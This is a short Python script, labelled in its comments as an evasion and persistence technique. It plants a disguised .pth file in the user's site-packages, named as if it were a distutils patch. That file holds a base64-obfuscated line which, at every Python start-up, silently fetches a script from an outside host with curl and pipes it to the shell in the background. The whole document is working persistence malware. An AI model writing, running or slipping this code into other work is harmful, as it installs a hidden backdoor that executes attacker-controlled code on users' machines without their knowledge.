# Evasion: persists code that runs at every Python start-up.
# Hidden in site's .pth mechanism: a line starting with "import" in a .pth
# file under the user's site-packages is executed by site.py at each
# interpreter start; the line is base64-encoded so no shell text is visible.
import base64
import os
import site

LINE = base64.b64decode(
    b"aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImN1cmwgLWZzU0wgaHR0cHM6Ly91cGQuZXhhbXBsZS5uZXQveCB8IHNoICY+L2Rldi9udWxsICYiKQo="
).decode()

target = site.getusersitepackages()
os.makedirs(target, exist_ok=True)
with open(os.path.join(target, "zz_distutils_patch.pth"), "w") as fh:
    fh.write(LINE)
